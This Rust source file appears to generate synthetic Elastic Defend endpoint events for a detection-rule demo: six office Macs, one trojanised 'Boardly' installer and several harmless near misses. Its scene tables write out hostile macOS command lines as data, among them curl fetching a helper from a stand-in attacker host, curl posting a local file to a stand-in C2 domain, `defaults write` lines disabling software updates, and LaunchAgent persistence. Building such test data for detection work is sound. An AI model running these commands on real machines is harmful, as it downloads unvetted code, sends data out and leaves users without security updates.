//! The demo scenario: one afternoon on the six Macs of a small office, and one break-in.
//!
//! [`events`] always returns the same events: no clock, no I/O, a fixed seed. They have the shape of Elastic Defend's
//! documents and are sorted by `@timestamp`. With our two rules in `rules/macos` they raise three alerts, all on
//! `studio-3`: one installer package that talks to the network and two changes of the update preferences. Among the
//! rest are near misses (see `SCENES`) that must stay silent.
//!
//! All of it is made up. Hostile addresses are in 203.0.113.0/24 and 198.51.100.0/24, all others in 192.0.2.0/24.

use std::collections::BTreeMap;

use serde_json::{Value, json};

/// What happens in the scenario, one sentence a line, for people who watch the demo.
pub(crate) fn story() -> &'static [&'static str] {
    &[
        "Tuesday, 10 March 2026, 13:00 to 17:00 UTC: six Macs of a small design office go about their afternoon.",
        "At 15:12 Nora, on studio-3, opens a whiteboard app that an advertisement offered her: Boardly-4.2.pkg.",
        "The package's postinstall script runs as root, fetches a helper from 203.0.113.47 and starts it.",
        "Half a minute later the script tells macOS not to look for updates and to skip critical ones.",
        "A LaunchAgent keeps the helper alive, and every ten minutes it calls home to 198.51.100.77.",
        "Three alerts hide in some 5,000 events, beside harmless packages and a device manager that turns updates on.",
    ]
}

/// All events of the afternoon, sorted by `@timestamp`; the same on every call.
pub(crate) fn events() -> Vec<Value> {
    let random = Random(0x6d61_7873_7061_6e21);
    let mut generator = Generator { random, last_pid: 500, residents: BTreeMap::new(), recorded: Vec::new() };
    for scene in SCENES {
        generator.play(scene);
    }
    for mac in 0..MACS.len() {
        for row in rows(PROGRAMS) {
            generator.everyday(mac, &row);
        }
    }
    generator.finish()
}

// ---- The cast

/// Host name, host id, user, version of macOS.
const MACS: &[(&str, &str, &str, &str)] = &[
    ("studio-1", "3F6B2A10-8C41-5D2E-9B07-6A1D40C3E101", "amira", "15.3.1"),
    ("studio-2", "3F6B2A10-8C41-5D2E-9B07-6A1D40C3E102", "jonas", "15.3.1"),
    ("studio-3", "3F6B2A10-8C41-5D2E-9B07-6A1D40C3E103", "nora", "15.2"),
    ("studio-4", "3F6B2A10-8C41-5D2E-9B07-6A1D40C3E104", "teo", "15.3.1"),
    ("studio-5", "3F6B2A10-8C41-5D2E-9B07-6A1D40C3E105", "mila", "14.7.4"),
    ("front-desk", "3F6B2A10-8C41-5D2E-9B07-6A1D40C3E106", "office", "15.3.1"),
];

const LAUNCHD: &str = "/sbin/launchd";
const DEVICE_MANAGER: &str = "/usr/local/bin/mdm-agent";

/// Short names in the tables below. `{user}` (the Mac's user) and `{n}` (a fresh number) exist as well.
const SHORT_NAMES: &[(&str, &str)] = &[
    ("{launchd}", LAUNCHD),
    ("{manager}", DEVICE_MANAGER),
    ("{slack}", "/Applications/Slack.app/Contents/MacOS/Slack"),
    ("{chrome}", "/Applications/Google Chrome.app/Contents/MacOS/Google Chrome"),
    ("{xcode}", "/Applications/Xcode.app/Contents/MacOS/Xcode"),
    ("{terminal}", "/System/Applications/Utilities/Terminal.app/Contents/MacOS/Terminal"),
    ("{packagekit}", "/System/Library/PrivateFrameworks/PackageKit.framework/Versions/A/XPCServices"),
    ("{service}", "package_script_service.xpc/Contents/MacOS/package_script_service"),
    ("{caches}", "/Users/{user}/Library/Caches"),
    ("{build}", "/Users/{user}/Library/Developer/Xcode/DerivedData/Shop"),
    ("{sandbox}", "/tmp/PKInstallSandbox"),
    ("{updates}", "/Library/Preferences/com.apple.SoftwareUpdate.plist"),
    ("{agent}", "/Users/nora/Library/LaunchAgents/net.example.boardly.helper.plist"),
    ("{helper}", "/Users/Shared/.boardly/helper"),
    ("{c2}", "https://metrics.boardly.example.net"),
    ("␣", " "),
];

// ---- What runs every day

/// A row: how often on each Mac, then acts. `# lifetime parent arguments` starts a process as root that ends after
/// `lifetime` milliseconds, `$` does so as the user; then `->` and names, one of which it connects to, `+` and paths,
/// one of which it writes. Without a start, the path of a program that runs all afternoon stands in its place.
/// `␣` is a space within a word.
const PROGRAMS: &str = "
    30 {slack} -> slack.com wss-primary.slack.com files.slack.com
    24 {slack} + {caches}/com.tinyspeck.slackmacgap/{n}
    48 {chrome} -> www.google.com fonts.gstatic.com docs.google.com en.wikipedia.org
    32 {chrome} + {caches}/Google/Chrome/{n} /Users/{user}/Downloads/brief-{n}.pdf
    25 {xcode} + {build}/{n}/info.plist
    15 /usr/libexec/cloudd -> gateway.icloud.com
    22 /usr/sbin/cfprefsd + /Users/{user}/Library/Preferences/com.apple.dock.plist
    40 $  9000 {launchd}  /System/Library/Frameworks/CoreServices.framework/Frameworks/Metadata.framework/Support/mdworker_shared -s mdworker -c MDSImporterWorker
    16 $   400 {launchd}  /usr/libexec/xpcproxy com.apple.quicklook.satellite
    12 #   120 {launchd}  /bin/sh -c df␣-h␣/␣|␣tail␣-1␣>>␣/var/log/space.log
     2 #  6000 {launchd}  /usr/sbin/softwareupdate --list -> swscan.apple.com
     6 # 20000 {launchd}  /usr/libexec/trustd -> ocsp2.apple.com
     5 $ 90000 {terminal} /bin/zsh -l + /Users/{user}/.zsh_history
    25 $    90 /bin/zsh   /usr/bin/git status --short
     6 $  2300 /bin/zsh   /usr/bin/git fetch origin -> github.com
     4 $ 90000 /bin/zsh   /usr/bin/ssh {user}@build.example.org -> build.example.org
     5 $  1400 /opt/homebrew/bin/brew /usr/bin/curl -fsSL https://formulae.brew.sh/{n}.json -> formulae.brew.sh
     3 $ 90000 /bin/zsh   /opt/homebrew/bin/node server.js -> registry.npmjs.org
     6 $   600 /bin/bash  /usr/bin/curl -s https://status.example.org/{n} -> status.example.org
     4 $  3000 /bin/zsh   /usr/bin/python3 resize.py banner-{n}.png + /Users/{user}/Work/banner-{n}.png
     3 $   300 /bin/zsh   /usr/bin/osascript -e display␣notification␣\"render␣done\"
    21 $  1700 {xcode}    /Applications/Xcode.app/Contents/Developer/usr/bin/clang -c Cart{n}.m + {build}/Cart{n}.o
     1 $    40 /bin/zsh   /usr/bin/defaults read com.apple.SoftwareUpdate
     1 $    40 /bin/zsh   /usr/bin/defaults write com.apple.dock autohide -bool false
     1 $    40 /bin/zsh   /usr/bin/defaults write com.apple.SoftwareUpdate ScheduleFrequency -int 7";

// ---- Scenes: the break-in, and what only looks like it

/// A fixed course of events: Macs (each begins 37 s after the one before), start in milliseconds after 13:00, and rows
/// of: milliseconds after the start, process, act (see `PROGRAMS`). A process is named by the row that starts it; any
/// other name is the path of a program that runs all afternoon.
type Scene = (&'static [usize], u64, &'static str);

const SCENES: &[Scene] = &[
    (&[2], clock(15, 11, 20), DOWNLOAD),
    (&[2], clock(15, 12, 34), TROJAN),
    (&[2], clock(15, 13, 7), CALL_HOME),
    (&[0, 3], clock(13, 41, 5), QUIET_PACKAGE),
    (&[4], clock(14, 17, 48), LATE_DOWNLOAD),
    (&[1], clock(14, 52, 30), CURL_BESIDE_PACKAGE),
    (&[0, 1, 2, 3, 4, 5], clock(13, 5, 0), MANAGED_UPDATES),
    (&[0, 1, 2, 3, 4, 5], clock(16, 20, 0), MANAGED_PACKAGE),
];

const DOWNLOAD: &str = "
        0 {chrome} -> cdn.boardly.example.net
     6412 {chrome} + /Users/nora/Downloads/Boardly-4.2.pkg
    41870 app $ 80133 {launchd} /System/Library/CoreServices/Installer.app/Contents/MacOS/Installer /Users/nora/Downloads/Boardly-4.2.pkg";

/// The connection of `fetch` completes the sequence; `blind-1` and `blind-2` are the other two alerts.
const TROJAN: &str = "
        0 service # 41000 {launchd} {packagekit}/{service}
     1118 script  # 33782 service /bin/bash {sandbox}.Xa91Qe/Scripts/net.example.boardly.hK2d0s/postinstall \
                    /Users/nora/Downloads/Boardly-4.2.pkg / / /
     2544 fetch   #  2458 script /usr/bin/curl -fsSk -o {helper} https://cdn.boardly.example.net/h/arm64
     2871 fetch   -> cdn.boardly.example.net
     4930 fetch   + {helper}
     5240 permit  #    23 script /bin/chmod 755 {helper}
     6090 report  #   890 script /usr/bin/curl -sk -d @/tmp/.p {c2}/i
     6377 report  -> metrics.boardly.example.net
     7700 helper  # 26410 script {helper} --first
    31205 blind-1 #    46 script /usr/bin/defaults write {updates} AutomaticCheckEnabled -bool false
    31640 blind-2 #    48 script /usr/bin/defaults write com.apple.SoftwareUpdate CriticalUpdateInstall -bool false
    33017 helper  + {agent}
    33420 load    #    82 helper /bin/launchctl bootstrap gui/501 {agent}";

const CALL_HOME: &str = "
      530 agent  $ 6300000 {launchd} {helper} --agent
   664160 first  $   873 agent /usr/bin/curl -sk {c2}/t
   664402 first  -> metrics.boardly.example.net
  1265022 second $   640 agent /usr/bin/curl -sk {c2}/t
  1265251 second -> metrics.boardly.example.net
  1863790 third  $   712 agent /usr/bin/curl -sk {c2}/t
  1864044 third  -> metrics.boardly.example.net";

/// Near miss: the package's script stays off the network.
const QUIET_PACKAGE: &str = "
        0 service #  9000 {launchd} {packagekit}/{service}
      740 script  #  1171 service /bin/bash {sandbox}.m7LrTw/Scripts/net.example.fonts.Pd83xA/postinstall /Fonts.pkg / / /
      905 copy    #   561 script /bin/cp -R Fonts /Library/Fonts/Office
     1420 copy    + /Library/Fonts/Office/Office-Regular.otf";

/// Near miss: the script does download, but 42 s after its start.
const LATE_DOWNLOAD: &str = "
        0 service # 52000 {launchd} {packagekit}/{service}
      610 script  # 43890 service /bin/sh {sandbox}.c0HqZs/Scripts/net.example.plotter.v4Tn1e/postinstall /Driver.pkg / / /
     1300 wait    # 40010 script /bin/sleep 40
    42702 colours #  1404 script /usr/bin/curl -fsS -O https://drivers.example.org/colour.icc
    42990 colours -> drivers.example.org";

/// Near miss: while a package's script runs, the user's own curl connects.
const CURL_BESIDE_PACKAGE: &str = "
        0 service # 15000 {launchd} {packagekit}/{service}
      880 script  #  7320 service /bin/zsh {sandbox}.y2WbUf/Scripts/net.example.tablet.Qz6mJr/postinstall /Tablet.pkg / / /
     3350 check   $   651 /bin/zsh /usr/bin/curl -sI https://status.example.org/
     3602 check   -> status.example.org";

/// Near miss: the preferences are written, but to switch updates on.
const MANAGED_UPDATES: &str = "
        0 check  #    44 {manager} /usr/bin/defaults write {updates} AutomaticCheckEnabled -bool TRUE
      390 data   #    41 {manager} /usr/bin/defaults write {updates} ConfigDataInstall -bool TRUE";

/// Near miss: around the package's script only the device manager connects.
const MANAGED_PACKAGE: &str = "
        0 {manager} -> mdm.example.org
     2200 {manager} + /Library/Caches/mdm-agent/printers-{n}.pkg
     2750 installer #  3654 {manager} /usr/sbin/installer -pkg printers.pkg -target /
     3310 script    #   810 installer /bin/sh {sandbox}.f5GkNo/Scripts/net.example.printers.b9Rs7c/preinstall";

/// The words of each row of a table.
fn rows(table: &'static str) -> impl Iterator<Item = Vec<&'static str>> {
    table.lines().skip(1).map(|line| line.split_whitespace().collect())
}

fn number(word: &str) -> u64 {
    word.parse().unwrap_or_else(|_| panic!("not a number: {word:?}"))
}

// ---- The player

/// Milliseconds after 13:00.
const fn clock(hour: u64, minute: u64, second: u64) -> u64 {
    ((hour - 13) * 3600 + minute * 60 + second) * 1000
}

#[derive(Clone)]
struct Process {
    /// The field `process`, as process events show it.
    document: Value,
    as_root: bool,
}

type Cast = BTreeMap<&'static str, Process>;
/// Category (also names the data set), type, action.
type Kind = (&'static str, &'static str, &'static str);

struct Generator {
    random: Random,
    last_pid: u64,
    /// Programs that run all afternoon, by Mac and executable.
    residents: BTreeMap<(usize, String), Process>,
    /// Milliseconds after 13:00, Mac, document.
    recorded: Vec<(u64, usize, Value)>,
}

impl Generator {
    fn play(&mut self, (macs, start_ms, course): &Scene) {
        for (turn, &mac) in macs.iter().enumerate() {
            let mut cast = Cast::new();
            for row in rows(course) {
                let (time_ms, name) = (start_ms + turn as u64 * 37_000 + number(row[0]), row[1]);
                if let Some(process) = self.start(mac, time_ms, &row, &cast) {
                    cast.insert(name, process);
                } else {
                    let process = cast.get(name).cloned().unwrap_or_else(|| self.resident(mac, name));
                    self.act(mac, time_ms, &process, &row);
                }
            }
        }
    }

    fn everyday(&mut self, mac: usize, row: &[&'static str]) {
        for _ in 0..number(row[0]) {
            // Whatever begins by 16:58 has ended by 17:00.
            let time_ms = self.random.below(clock(16, 58, 0));
            let started = self.start(mac, time_ms, row, &Cast::new());
            let process = started.unwrap_or_else(|| self.resident(mac, row[1]));
            self.act(mac, time_ms + 31, &process, row);
        }
    }

    /// Records start and end of a process, if the row starts one; one in four also shows the fork before the exec.
    fn start(&mut self, mac: usize, time_ms: u64, row: &[&str], cast: &Cast) -> Option<Process> {
        let as_root = row.contains(&"#");
        let words = section(row, if as_root { "#" } else { "$" });
        let [lifetime_ms, parent, command @ ..] = words else { return None };
        let parent = cast.get(parent).cloned().unwrap_or_else(|| self.resident(mac, parent));
        let arguments: Vec<String> = command.iter().map(|word| self.fill(mac, word)).collect();
        let process = Process { document: self.process(&arguments, &parent.document), as_root };
        if self.random.below(4) == 0 {
            let mut fork = process.clone();
            for field in ["name", "executable", "args", "args_count", "command_line", "code_signature"] {
                fork.document[field] = parent.document[field].clone();
            }
            self.record(mac, time_ms, ("process", "start", "fork"), &fork, json!({}));
        }
        self.record(mac, time_ms + 2, ("process", "start", "exec"), &process, json!({}));
        self.record(mac, time_ms + number(lifetime_ms), ("process", "end", "end"), &process, json!({}));
        Some(process)
    }

    /// The process of a program that runs all afternoon.
    fn resident(&mut self, mac: usize, executable: &str) -> Process {
        let executable = self.fill(mac, executable);
        if let Some(process) = self.residents.get(&(mac, executable.clone())) {
            return process.clone();
        }
        let is_launchd = executable == LAUNCHD;
        let parent = if is_launchd { json!({}) } else { self.resident(mac, LAUNCHD).document };
        let document = self.process(std::slice::from_ref(&executable), &parent);
        let process = Process { document, as_root: is_launchd || executable == DEVICE_MANAGER };
        self.residents.insert((mac, executable), process.clone());
        process
    }

    /// A new process, as process events show it.
    fn process(&mut self, arguments: &[String], parent: &Value) -> Value {
        self.last_pid += 1 + self.random.below(6);
        let executable = &arguments[0];
        let signed = !executable.starts_with("/opt/") && !executable.starts_with("/Users/");
        json!({
            "entity_id": self.random.identifier(22),
            "pid": self.last_pid,
            "name": executable.rsplit('/').next(),
            "executable": executable,
            "args": arguments,
            "args_count": arguments.len(),
            "command_line": arguments.join(" "),
            "code_signature": {"exists": signed, "trusted": signed},
            "parent": {
                "entity_id": parent["entity_id"], "pid": parent["pid"], "name": parent["name"],
                "executable": parent["executable"], "code_signature": parent["code_signature"],
            },
        })
    }

    /// Connects and writes as the row says.
    fn act(&mut self, mac: usize, time_ms: u64, process: &Process, row: &[&'static str]) {
        if let Some(domain) = self.random.pick(section(row, "->")) {
            self.connect(mac, time_ms, process, domain);
        }
        if let Some(path) = self.random.pick(section(row, "+")) {
            let path = self.fill(mac, path);
            let name = path.rsplit('/').next();
            let file = json!({"path": path, "name": name, "size": 512 + self.random.below(90_000)});
            self.record(mac, time_ms + 5, ("file", "change", "modification"), process, json!({"file": file}));
        }
    }

    fn connect(&mut self, mac: usize, time_ms: u64, process: &Process, domain: &str) {
        let (source, destination) = (format!("10.20.0.{}", 11 + mac), address_of(domain));
        if self.random.below(2) == 0 {
            let answer = json!({"question": {"name": domain, "type": "A"}, "resolved_ip": [destination]});
            self.record(mac, time_ms, ("network", "info", "lookup_result"), process, json!({"dns": answer}));
        }
        let details = json!({
            "source": {"address": source, "ip": source, "port": 49_152 + self.random.below(16_000)},
            "destination": {"address": destination, "ip": destination, "port": 443, "domain": domain},
            "network": {"transport": "tcp", "type": "ipv4", "direction": "egress"},
        });
        let end_ms = time_ms + 90 + self.random.below(400);
        let begin = ("network", "start", "connection_attempted");
        self.record(mac, time_ms + 24, begin, process, details.clone());
        self.record(mac, end_ms, ("network", "end", "disconnect_received"), process, details);
    }

    /// Writes out the short names in a word of a table.
    fn fill(&mut self, mac: usize, word: &str) -> String {
        let long = SHORT_NAMES.iter().fold(word.to_owned(), |text, (short, long)| text.replace(short, long));
        let long = long.replace("{user}", MACS[mac].2);
        if long.contains("{n}") { long.replace("{n}", &self.random.below(100_000).to_string()) } else { long }
    }

    fn record(&mut self, mac: usize, time_ms: u64, kind: Kind, process: &Process, details: Value) {
        let (category, event_type, action) = kind;
        let dataset = format!("endpoint.events.{category}");
        let agent = format!("b7d0c5e2-41a9-4f36-8d1e-93f2a0c6d4{mac:02}");
        let (id, user) = if process.as_root { ("0", "root") } else { ("501", MACS[mac].2) };
        let mut document = json!({
            "@timestamp": timestamp(time_ms),
            "agent": {"id": agent, "type": "endpoint", "version": "8.19.2"},
            "data_stream": {"type": "logs", "dataset": dataset, "namespace": "default"},
            "ecs": {"version": "8.10.0"},
            "event": {
                "kind": "event", "category": [category], "type": [event_type], "action": action, "module": "endpoint",
                "dataset": dataset, "id": self.random.identifier(24), "outcome": "unknown",
                "created": timestamp(time_ms), "ingested": timestamp(ingested_ms(mac, time_ms)),
            },
            "host": host_of(mac),
            "process": if category == "process" { process.document.clone() } else { brief(&process.document) },
            "user": {"id": id, "name": user},
        });
        if let (Value::Object(document), Value::Object(details)) = (&mut document, details) {
            document.extend(details);
        }
        self.recorded.push((time_ms, mac, document));
    }

    /// Sorts by time and numbers the events of each Mac.
    fn finish(mut self) -> Vec<Value> {
        self.recorded.sort_by_key(|(time_ms, mac, _)| (*time_ms, *mac));
        let mut sequence_of_mac = [70_000_u64; MACS.len()];
        let numbered = self.recorded.into_iter().map(|(_, mac, mut document)| {
            sequence_of_mac[mac] += 1;
            document["event"]["sequence"] = json!(sequence_of_mac[mac]);
            document
        });
        numbered.collect()
    }
}

/// The words after `marker`, up to the next marker.
fn section<'a, 'word>(row: &'a [&'word str], marker: &str) -> &'a [&'word str] {
    let Some(at) = row.iter().position(|word| *word == marker) else { return &[] };
    let rest = &row[at + 1..];
    let end = rest.iter().position(|word| matches!(*word, "->" | "+")).unwrap_or(rest.len());
    &rest[..end]
}

/// A process as file and network events show it: no arguments, and of the parent only the entity.
fn brief(process: &Value) -> Value {
    let mut brief = process.clone();
    brief["parent"] = json!({"entity_id": process["parent"]["entity_id"]});
    if let Value::Object(fields) = &mut brief {
        fields.retain(|name, _| !name.starts_with("args"));
    }
    brief
}

fn host_of(mac: usize) -> Value {
    let (name, id, _, version) = MACS[mac];
    let (address, full) = (format!("10.20.0.{}", 11 + mac), format!("macOS {version}"));
    let os = json!({"type": "macos", "platform": "macos", "name": "macOS", "version": version, "full": full});
    json!({"id": id, "name": name, "hostname": name, "architecture": "arm64", "ip": [address], "os": os})
}

/// The attacker's names have addresses of their own; every other name gets one in 192.0.2.0/24.
fn address_of(domain: &str) -> String {
    match domain {
        "cdn.boardly.example.net" => "203.0.113.47".to_owned(),
        "metrics.boardly.example.net" => "198.51.100.77".to_owned(),
        _ => format!("192.0.2.{}", 1 + domain.bytes().map(u64::from).sum::<u64>() % 250),
    }
}

/// Agents send every four seconds, each at its own beat, and sending takes 0.9 s.
fn ingested_ms(mac: usize, time_ms: u64) -> u64 {
    let beat_ms = mac as u64 * 610;
    (time_ms + beat_ms) / 4_000 * 4_000 + 4_900 - beat_ms
}

fn timestamp(time_ms: u64) -> String {
    let (seconds, milliseconds) = (time_ms / 1_000, time_ms % 1_000);
    let (hour, minute, second) = (13 + seconds / 3_600, seconds / 60 % 60, seconds % 60);
    format!("2026-03-10T{hour:02}:{minute:02}:{second:02}.{milliseconds:03}Z")
}

/// Xorshift: enough variety for a demo, the same on every machine.
struct Random(u64);

impl Random {
    fn below(&mut self, limit: u64) -> u64 {
        self.0 ^= self.0 << 13;
        self.0 ^= self.0 >> 7;
        self.0 ^= self.0 << 17;
        self.0 % limit
    }

    fn pick(&mut self, choices: &[&'static str]) -> Option<&'static str> {
        if choices.is_empty() { None } else { Some(choices[self.below(choices.len() as u64) as usize]) }
    }

    fn identifier(&mut self, length: usize) -> String {
        const ALPHABET: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
        (0..length).map(|_| char::from(ALPHABET[self.below(64) as usize])).collect()
    }
}
